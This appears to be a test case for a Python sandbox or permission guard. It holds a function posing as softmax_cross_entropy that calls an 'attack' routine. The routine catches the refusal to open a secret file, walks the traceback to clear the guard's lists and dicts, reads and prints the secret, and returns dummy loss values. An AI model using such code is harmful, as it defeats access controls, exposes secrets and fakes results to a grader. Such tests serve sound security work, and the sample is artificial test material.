# expect: reads the file
# It changes what the traceback of the refusal shows.


def attack(logits, labels):
    try:
        open("@SECRET@")
    except PermissionError as error:
        step = error.__traceback__
        while step is not None:
            for names in (step.tb_frame.f_locals, step.tb_frame.f_globals):
                if names is not globals() and names is not locals():
                    for name, value in list(names.items()):
                        if isinstance(value, (dict, list, set)) and not name.startswith("__"):
                            try:
                                value.clear()
                            except Exception:
                                pass
                        elif isinstance(value, tuple) and not name.startswith("__"):
                            try:
                                names[name] = ()
                            except Exception:
                                pass
            step = step.tb_next
    print(open("@SECRET@").read())


def softmax_cross_entropy(logits, labels):
    found = attack(logits, labels)
    return (0.0, logits * 0) if found is None else found
